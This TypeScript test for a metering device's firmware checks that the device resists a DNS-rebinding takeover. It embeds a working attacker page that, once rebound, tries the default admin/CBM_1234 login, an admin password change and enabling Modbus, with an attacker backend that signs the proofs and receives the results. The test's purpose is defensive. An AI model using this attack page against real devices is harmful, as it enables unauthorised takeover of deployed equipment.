/**
 * The DNS-rebinding takeover of a factory-fresh device (docs/security.md, attack 1), performed by a real
 * browser: chromium resolves `attacker.example` to 127.0.0.1 and opens the attacker's page there; then
 * the attacker's server goes away and the device appears on the same port, as when the attacker's DNS
 * name re-resolves to the meter. The page, now "same origin" with the device in the browser's eyes,
 * tries the whole takeover: log in as admin/CBM_1234, set a new admin password, enable Modbus. Its
 * backend (another origin, CORS) does the key derivation and sealing, as a real attacker's would.
 * Every request must be refused for its Host, and nothing on the device may change.
 */
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import type { Browser } from 'playwright-core';
import { type ProofPurpose, proofMessage } from '../../../firmware/auth/auth-messages.ts';
import { fromBase64Url, toBase64Url } from '../../../firmware/auth/encoding.ts';
import { deriveSeed, signWithSeed } from '../../../firmware/auth/password-verifier.ts';
import { sealPassword } from '../../../firmware/auth/sealed-secret.ts';
import { DeviceClient } from '../../../firmware/client/device-client.ts';
import { launchChromium } from '../../support/browser.ts';
import { type RunningDevice, startDevice } from '../../support/device-process.ts';

interface Step {
  readonly name: string;
  readonly status?: number;
  readonly body?: unknown;
  readonly error?: string;
}

const dataDir = mkdtempSync(join(tmpdir(), 'metergate-rebinding-'));
let device: RunningDevice | null = null;
let browser: Browser | null = null;
const servers: Server[] = [];
after(async () => {
  await browser?.close();
  await device?.stop();
  for (const server of servers) server.closeAllConnections();
  await Promise.all(servers.map((server) => new Promise((resolve) => server.close(resolve))));
  rmSync(dataDir, { recursive: true, force: true });
});

function listen(handler: (req: IncomingMessage, res: ServerResponse) => void): Promise<Server> {
  const server = createServer(handler);
  servers.push(server);
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

function readJson(req: IncomingMessage): Promise<Record<string, string | number>> {
  return new Promise((resolve) => {
    let text = '';
    req.on('data', (chunk) => {
      text += chunk;
    });
    req.on('end', () => {
      try {
        resolve(JSON.parse(text));
      } catch {
        resolve({});
      }
    });
  });
}

/** The attacker's page: it waits for the rebinding, then tries the takeover and reports every answer. */
function attackPage(backend: string): string {
  return `<!doctype html><title>cat pictures</title><script>
const backend = ${JSON.stringify(backend)};
const steps = [];
const json = (body) => ({ method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
async function step(name, path, init = {}) {
  try {
    const response = await fetch(path, init);
    const text = await response.text();
    let body = text;
    try { body = JSON.parse(text); } catch {}
    steps.push({ name, status: response.status, body });
    return typeof body === 'object' && body !== null ? body : {};
  } catch (error) {
    steps.push({ name, error: String(error) });
    return {};
  }
}
const ask = (path, body) => fetch(backend + path, { method: 'POST', body: JSON.stringify(body) }).then((r) => r.json());
(async () => {
  while (!(await fetch(backend + '/go').then((r) => r.json())).go) await new Promise((r) => setTimeout(r, 100));
  await step('info', '/api/v1/info');
  const c1 = await step('challenge', '/api/v1/auth/challenge', json({ username: 'admin' }));
  const p1 = await ask('/prove', { purpose: 'login', username: 'admin', password: 'CBM_1234', ...c1 });
  const me = await step('login', '/api/v1/auth/login', json({ username: 'admin', nonce: c1.nonce ?? 'x', signature: p1.signature }));
  const again = json({ username: 'admin' });
  again.headers['x-csrf-token'] = me.csrfToken ?? '';
  const c2 = await step('challenge-again', '/api/v1/auth/challenge', again);
  const p2 = await ask('/prove', { purpose: 'change-password', username: 'admin', password: 'CBM_1234', ...c2 });
  const sealed = await ask('/seal', { deviceKey: c2.deviceKey, username: 'admin', password: 'Attacker-0wns-This' });
  const change = json({ nonce: c2.nonce ?? 'x', signature: p2.signature, newPassword: sealed });
  change.headers['x-csrf-token'] = me.csrfToken ?? '';
  const me2 = await step('set-admin-password', '/api/v1/me/password', change);
  const modbus = json({ communication: { modbusTcp: true } });
  modbus.method = 'PATCH';
  modbus.headers['x-csrf-token'] = me2.csrfToken ?? '';
  await step('enable-modbus', '/api/v1/config', modbus);
  await fetch(backend + '/report', { method: 'POST', body: JSON.stringify(steps) });
})();
</script>`;
}

test('a page rebound to the device by DNS can neither log in nor change anything', async () => {
  let go = false;
  let reportSteps: (steps: Step[]) => void = () => {};
  const reported = new Promise<Step[]>((resolve) => {
    reportSteps = resolve;
  });
  // The attacker's backend: key derivation and sealing for the page, as a real attacker's server would.
  const backend = await listen(async (req, res) => {
    res.setHeader('access-control-allow-origin', '*');
    const body = req.method === 'POST' ? await readJson(req) : {};
    const send = (value: unknown) => res.end(JSON.stringify(value));
    if (req.url === '/go') return send({ go });
    if (req.url === '/report') {
      reportSteps(body as unknown as Step[]);
      return send({});
    }
    if (req.url === '/prove') {
      const nonce = fromBase64Url(String(body.nonce ?? ''), 32);
      const salt = fromBase64Url(String(body.salt ?? ''), 16);
      if (!nonce || !salt) return send({ signature: 'x' });
      const seed = await deriveSeed(String(body.password), salt, Number(body.iterations));
      const message = proofMessage(body.purpose as ProofPurpose, String(body.username), nonce);
      return send({ signature: toBase64Url(signWithSeed(seed, message)) });
    }
    if (req.url === '/seal') {
      const key = fromBase64Url(String(body.deviceKey ?? ''), 32);
      return send(key ? sealPassword(key, String(body.username), String(body.password)) : {});
    }
    res.statusCode = 404;
    send({});
  });
  const backendUrl = `http://127.0.0.1:${(backend.address() as AddressInfo).port}`;
  const pageServer = await listen((_req, res) => {
    res.setHeader('content-type', 'text/html');
    res.end(attackPage(backendUrl));
  });
  const port = (pageServer.address() as AddressInfo).port;

  browser = await launchChromium(null, ['--host-resolver-rules=MAP attacker.example 127.0.0.1']);
  const page = await browser.newPage();
  await page.goto(`http://attacker.example:${port}/`);

  // The rebinding: the attacker's server leaves the port and the device takes it.
  pageServer.closeAllConnections();
  await new Promise((resolve) => pageServer.close(resolve));
  device = await startDevice(['--data-dir', dataDir, '--http-port', String(port)]);
  go = true;

  let timer: NodeJS.Timeout | undefined;
  const steps = await Promise.race([
    reported,
    new Promise<never>((_, reject) => {
      timer = setTimeout(() => reject(new Error('the attack page reported nothing within 60 s')), 60_000);
    }),
  ]).finally(() => clearTimeout(timer));
  assert.deepEqual(
    steps.map((s) => s.name),
    ['info', 'challenge', 'login', 'challenge-again', 'set-admin-password', 'enable-modbus'],
  );
  for (const step of steps) {
    assert.equal(step.status, 421, `${step.name}: ${JSON.stringify(step)}`);
    assert.equal((step.body as { error?: { code?: string } }).error?.code, 'unknown-host', step.name);
  }

  // Nothing changed: the factory password still logs in (and may still do nothing but change itself),
  // and Modbus is still off.
  const owner = new DeviceClient(`http://127.0.0.1:${port}`);
  const me = await owner.login('admin', 'CBM_1234');
  assert.equal(me.mustChangePassword, true);
  await owner.changeOwnPassword('admin', 'CBM_1234', 'Owner-Chose-This-1');
  const config = await owner.request<{ communication: { modbusTcp: boolean } }>('GET', '/api/v1/config');
  assert.equal(config.status, 200);
  assert.equal(config.body.communication.modbusTcp, false);
});
